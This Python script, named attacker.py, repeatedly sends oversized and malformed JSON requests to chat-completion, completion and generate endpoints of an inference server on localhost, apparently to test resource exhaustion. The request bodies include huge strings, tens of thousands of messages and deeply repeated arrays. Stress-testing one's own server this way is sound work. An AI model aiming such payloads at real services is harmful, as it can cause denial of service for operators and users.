"""Send what is expensive to read, again and again, with pauses: python attacker.py PORT."""

import http.client
import json
import sys
import time

PAUSE_S = 0.3
COMPLETIONS, CHAT = "/v1/completions", "/v1/chat/completions"


def bodies() -> list[tuple[str, bytes]]:
    """What to send where; all below the bound of a body but the first."""

    def chat(content: str) -> bytes:
        return json.dumps({"model": "echo", "messages": [{"role": "user", "content": content}]}).encode()

    return [
        (CHAT, chat("a b " * 2_500_000)),
        (CHAT, chat("a b " * 900_000)),
        (CHAT, json.dumps({"model": "echo", "messages": [{"role": "user", "content": "a"}] * 90_000}).encode()),
        (CHAT, json.dumps({"model": "echo", "messages": [1] * 1_000_000}).encode()),
        (COMPLETIONS, json.dumps({"model": "echo", "prompt": ["a b"] * 5000}).encode()),
        (COMPLETIONS, json.dumps({"model": "echo", "prompt": [[1]] * 500_000}).encode()),
        ("/v2/models/ensemble/generate", json.dumps({"text_input": "a b " * 900_000, "max_tokens": 1}).encode()),
    ]


def main() -> None:
    """Attack until it is killed."""
    port, told = int(sys.argv[1]), False
    prepared = bodies()
    while True:
        for path, body in prepared:
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=120)
            try:
                connection.request("POST", path, body, {"Content-Type": "application/json"})
                connection.getresponse().read()
            except (OSError, http.client.HTTPException):
                pass
            connection.close()
            if not told:
                told = True
                sys.stdout.write("attacking\n")
                sys.stdout.flush()
            time.sleep(PAUSE_S)


if __name__ == "__main__":
    main()
